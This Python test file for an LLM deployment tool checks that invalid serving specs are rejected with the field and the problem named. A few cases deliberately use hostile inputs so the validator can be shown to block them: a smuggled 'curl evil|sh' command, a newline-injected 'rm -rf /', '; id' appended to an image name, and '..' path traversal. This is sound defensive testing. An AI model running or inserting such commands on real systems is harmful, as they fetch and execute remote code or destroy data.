"""A table of invalid specs: each must be rejected naming the field and the problem."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from llm_rollout.errors import SpecError
from llm_rollout.spec import InvalidSpecError, load_spec, spec_from_dict, spec_hash

from .conftest import example_dict

Mutation = Callable[[dict[str, Any]], None]


def _set(path: str, value: Any) -> Mutation:
    def mutate(data: dict[str, Any]) -> None:
        *parents, leaf = path.split(".")
        node = data
        for key in parents:
            node = node.setdefault(key, {})
        node[leaf] = value

    return mutate


def _drop(path: str) -> Mutation:
    def mutate(data: dict[str, Any]) -> None:
        *parents, leaf = path.split(".")
        node = data
        for key in parents:
            node = node[key]
        del node[leaf]

    return mutate


def _all(*mutations: Mutation) -> Mutation:
    def mutate(data: dict[str, Any]) -> None:
        for mutation in mutations:
            mutation(data)

    return mutate


CASES: list[tuple[str, str, Mutation, str, str]] = [
    # (id, example, mutation, expected field, expected problem fragment)
    (
        "tp-pp-mismatch",
        "seed-vllm-lws",
        _set("serving.tp", 4),
        "serving.tp",
        "must equal nodes*gpus_per_node",
    ),
    (
        "multi-node-one-node",
        "seed-vllm-lws",
        _all(_set("serving.nodes", 1), _set("serving.tp", 1)),
        "serving.nodes",
        "at least 2 nodes",
    ),
    (
        "pd-missing",
        "seed-sglang-pd-rbg",
        _drop("serving.pd"),
        "serving.pd",
        "required for shape pd-disaggregated",
    ),
    (
        "pd-no-decode",
        "seed-sglang-pd-rbg",
        _set("serving.pd.decode_replicas", 0),
        "serving.pd.decode_replicas",
        "greater than or equal to 1",
    ),
    (
        "pd-no-prefill",
        "seed-sglang-pd-rbg",
        _drop("serving.pd.prefill_replicas"),
        "serving.pd.prefill_replicas",
        "required field is missing",
    ),
    (
        "pd-with-vllm",
        "seed-sglang-pd-rbg",
        _set("serving.engine", "vllm"),
        "serving.engine",
        "only supported with sglang",
    ),
    ("name-not-dns", "seed-vllm-lws", _set("name", "Qwen_32B"), "name", "DNS-1123 label"),
    (
        "namespace-missing",
        "seed-vllm-lws",
        _drop("namespace"),
        "namespace",
        "required field is missing",
    ),
    (
        "namespace-not-dns",
        "seed-vllm-lws",
        _set("namespace", "LLM.serving"),
        "namespace",
        "DNS-1123 label",
    ),
    (
        "negative-size",
        "seed-vllm-lws",
        _set("model.size_bytes", -5),
        "model.size_bytes",
        "greater than 0",
    ),
    (
        "absurd-size",
        "seed-vllm-lws",
        _set("model.size_bytes", 10**15),
        "model.size_bytes",
        "less than or equal to",
    ),
    (
        "gpu-memory-too-small",
        "seed-vllm-lws",
        _set("serving.gpu_memory_gib", 24),
        "serving.gpu_memory_gib",
        "cannot hold 61.0 GiB",
    ),
    (
        # vLLM never takes more than --gpu-memory-utilization of a GPU, weights included.
        "weights-over-user-utilization",
        "seed-vllm-single-gpu",
        _set("serving.extra_args", ["--gpu-memory-utilization", "0.6"]),
        "serving.gpu_memory_gib",
        "14.4 GiB usable at a memory share of 0.6",
    ),
    (
        "utilization-out-of-range",
        "seed-vllm-single-gpu",
        _set("serving.extra_args", ["--gpu-memory-utilization=1.5"]),
        "serving.extra_args",
        "must be in (0, 1]",
    ),
    (
        # KubeRay / Ray: the head node runs GCS on 6379 (llm_rollout/kuberay.py).
        "ray-server-port-on-gcs",
        "seed-qwen14b-ray-tp2",
        _set("serving.port", 6379),
        "serving.port",
        "Ray GCS port",
    ),
    (
        "pd-decode-too-small",
        "seed-sglang-pd-rbg",
        _all(_set("serving.pd.decode_tp", 1), _set("serving.gpu_memory_gib", 40)),
        "serving.pd.decode_tp",
        "cannot hold",
    ),
    ("unknown-top-field", "seed-vllm-lws", _set("replicas", 3), "replicas", "unknown field"),
    (
        "unknown-nested-field",
        "seed-vllm-lws",
        _set("serving.tensor_parallel", 2),
        "serving.tensor_parallel",
        "unknown field",
    ),
    (
        "both-sources",
        "seed-vllm-lws",
        _set("model.oss_uri", "oss://bucket-a/models/x/"),
        "model.modelscope",
        "exactly one",
    ),
    (
        "bad-oss-uri",
        "seed-vllm-ray-tp8-pp2",
        _set("model.oss_uri", "s3://bucket/x"),
        "model.oss_uri",
        "oss://bucket/prefix",
    ),
    (
        "prefix-dotdot",
        "seed-vllm-lws",
        _set("storage.prefix", "models/../etc"),
        "storage.prefix",
        "'..'",
    ),
    (
        "prefix-absolute",
        "seed-vllm-lws",
        _set("storage.prefix", "/models"),
        "storage.prefix",
        "relative",
    ),
    (
        "half-env-credentials",
        "seed-vllm-lws",
        _drop("storage.credentials.access_key_secret_env"),
        "storage.credentials.access_key_secret_env",
        "together",
    ),
    (
        "secret-value-as-env-name",
        "seed-vllm-lws",
        _set("storage.credentials.access_key_id_env", "LTAI5t-abc/xyz"),
        "storage.credentials.access_key_id_env",
        "environment variable name",
    ),
    (
        "no-credentials-mirror",
        "seed-vllm-lws",
        _drop("storage.credentials"),
        "storage.credentials",
        "mirroring from ModelScope",
    ),
    (
        "no-credentials-no-rrsa",
        "seed-vllm-ray-tp8-pp2",
        _drop("storage.credentials"),
        "storage.credentials",
        "required unless volume.rrsa_role",
    ),
    (
        "shell-injection-arg",
        "seed-vllm-lws",
        _set("serving.extra_args", ["--max-model-len", "8192; curl evil|sh"]),
        "serving.extra_args",
        "shell metacharacters",
    ),
    (
        "newline-arg",
        "seed-vllm-lws",
        _set("serving.extra_args", ["--x\nrm -rf /"]),
        "serving.extra_args",
        "shell metacharacters",
    ),
    (
        "smoke-oversize",
        "seed-vllm-lws",
        _set("smoke.messages", [{"role": "user", "content": "x" * 9000}] * 2),
        "smoke.messages",
        "at most 16000",
    ),
    (
        "smoke-bad-role",
        "seed-vllm-lws",
        _set("smoke.messages", [{"role": "robot", "content": "hi"}]),
        "smoke.messages[0].role",
        "'system', 'user' or 'assistant'",
    ),
    (
        "single-gpu-two-gpus",
        "seed-vllm-single-gpu",
        _all(_set("serving.gpus_per_node", 2), _set("serving.tp", 2)),
        "serving.gpus_per_node",
        "single-gpu needs",
    ),
    (
        "tp-shape-one-gpu",
        "seed-vllm-tp4",
        _all(_set("serving.gpus_per_node", 1), _set("serving.tp", 1)),
        "serving.gpus_per_node",
        "at least 2 GPUs",
    ),
    (
        "ray-with-sglang",
        "seed-qwen14b-ray-tp2",
        _set("serving.engine", "sglang"),
        "serving.engine",
        "only supported with vllm",
    ),
    (
        "negative-timeout",
        "seed-vllm-lws",
        _set("rollout.ready_timeout_s", -1),
        "rollout.ready_timeout_s",
        "greater than or equal to 10",
    ),
    (
        "unknown-strategy",
        "seed-vllm-lws",
        _set("rollout.strategy", "canary"),
        "rollout.strategy",
        "'auto', 'blue-green' or 'recreate'",
    ),
    (
        "capacity-unknown",
        "seed-vllm-lws",
        _drop("model.size_bytes"),
        "volume.capacity_gib",
        "required when model.size_bytes is unknown",
    ),
    (
        "image-with-space",
        "seed-vllm-lws",
        _set("serving.image", "vllm/vllm-openai:latest; id"),
        "serving.image",
        "container image reference",
    ),
    (
        "bad-cpu-quantity",
        "seed-vllm-lws",
        _set("serving.resources.cpu", "eight"),
        "serving.resources.cpu",
        "Kubernetes quantity",
    ),
    (
        "pv-name-not-dns",
        "seed-vllm-lws",
        _set("volume.pv_name", "LLM_model"),
        "volume.pv_name",
        "DNS-1123 label",
    ),
    (
        "mount-path-dotdot",
        "seed-vllm-lws",
        _set("volume.mount_path", "/models/../etc"),
        "volume.mount_path",
        "'..'",
    ),
    ("name-too-long", "seed-vllm-lws", _set("name", "a" * 41), "name", "at most 40 characters"),
]


@pytest.mark.parametrize(
    ("example", "mutation", "field", "problem"),
    [case[1:] for case in CASES],
    ids=[case[0] for case in CASES],
)
def test_invalid_spec_names_field_and_problem(
    example: str, mutation: Mutation, field: str, problem: str
) -> None:
    data = example_dict(example)
    mutation(data)
    with pytest.raises(InvalidSpecError) as info:
        spec_from_dict(data)
    found = dict(info.value.problems)
    assert field in found, f"expected a problem on {field}, got {info.value.problems}"
    assert problem in found[field]
    # The message users see names the field, too.
    assert field in str(info.value)


def test_table_is_large_enough() -> None:
    assert len(CASES) >= 20


def test_every_problem_is_reported_at_once(lws_dict: dict[str, Any]) -> None:
    lws_dict["name"] = "Bad Name"
    lws_dict["namespace"] = "UPPER"
    lws_dict["storage"]["prefix"] = "../up"
    with pytest.raises(InvalidSpecError) as info:
        spec_from_dict(lws_dict)
    fields = [field for field, _ in info.value.problems]
    assert fields == ["name", "namespace", "storage.prefix"]
    assert info.value.field == "name"


def test_spec_error_for_unreadable_and_malformed_files(tmp_path: Path) -> None:
    with pytest.raises(SpecError, match="cannot read"):
        load_spec(tmp_path / "missing.yaml")
    broken = tmp_path / "broken.yaml"
    broken.write_text("name: [unclosed\n", encoding="utf-8")
    with pytest.raises(SpecError, match="not valid YAML at line"):
        load_spec(broken)
    scalar = tmp_path / "scalar.yaml"
    scalar.write_text("just text\n", encoding="utf-8")
    with pytest.raises(SpecError, match="must be a mapping"):
        load_spec(scalar)


def test_defaults_follow_the_runbooks(lws_dict: dict[str, Any]) -> None:
    spec = spec_from_dict(lws_dict)
    assert [m.model_dump() for m in spec.smoke.messages] == [
        {"role": "user", "content": "测试一下"}
    ]
    assert (spec.smoke.max_tokens, spec.smoke.temperature, spec.smoke.top_p, spec.smoke.seed) == (
        30,
        0.7,
        0.9,
        10,
    )
    assert spec.model_mount_path == "/models/Qwen3-32B"
    assert spec.served_model_name == "/models/Qwen3-32B"
    assert spec.model_object_prefix == "models/Qwen/Qwen3-32B/master/"
    # 65.5 GB of weights plus 10% headroom, in GiB, rounded up.
    assert spec.pv_capacity_gib == 68


def test_spec_hash_is_stable_and_sensitive(lws_dict: dict[str, Any]) -> None:
    first = spec_hash(spec_from_dict(lws_dict))
    assert first == spec_hash(spec_from_dict(example_dict("seed-vllm-lws")))
    assert len(first) == 64
    lws_dict["serving"]["extra_args"] = ["--max-model-len", "8192"]
    assert spec_hash(spec_from_dict(lws_dict)) != first


def test_new_revision_gets_new_volume_names(lws_dict: dict[str, Any]) -> None:
    old = spec_from_dict(lws_dict)
    lws_dict["model"]["modelscope"]["revision"] = "v1.1"
    new = spec_from_dict(lws_dict)
    assert old.pv_name != new.pv_name
    assert old.pvc_name != new.pvc_name
    assert new.pv_name.startswith("qwen3-32b-vllm-model-")


def test_same_service_in_two_namespaces_gets_two_persistent_volumes(
    lws_dict: dict[str, Any],
) -> None:
    # PersistentVolumes are cluster-wide: sharing one would leave the second claim unbound.
    first = spec_from_dict(lws_dict)
    lws_dict["namespace"] = "llm-staging"
    second = spec_from_dict(lws_dict)
    assert first.pv_name != second.pv_name
    # Claims are namespaced, so their names may (and do) stay the same.
    assert first.pvc_name == second.pvc_name


def test_readiness_tolerances_leave_the_spec_hash_alone(lws_dict: dict[str, Any]) -> None:
    """How long readiness waits out a transient signal is not what is deployed: changing it
    must not make a new release (nor turn the serving one into a stranger)."""
    first = spec_hash(spec_from_dict(lws_dict))
    lws_dict.setdefault("rollout", {}).update(
        image_pull_tolerance_s=1,
        mount_tolerance_s=2,
        node_not_ready_tolerance_s=3,
        pod_create_tolerance_s=6,
        scale_up_wait_s=4,
        crash_loop_group_recreations=5,
    )
    assert spec_hash(spec_from_dict(lws_dict)) == first
    lws_dict["rollout"]["ready_timeout_s"] = 601
    assert spec_hash(spec_from_dict(lws_dict)) != first
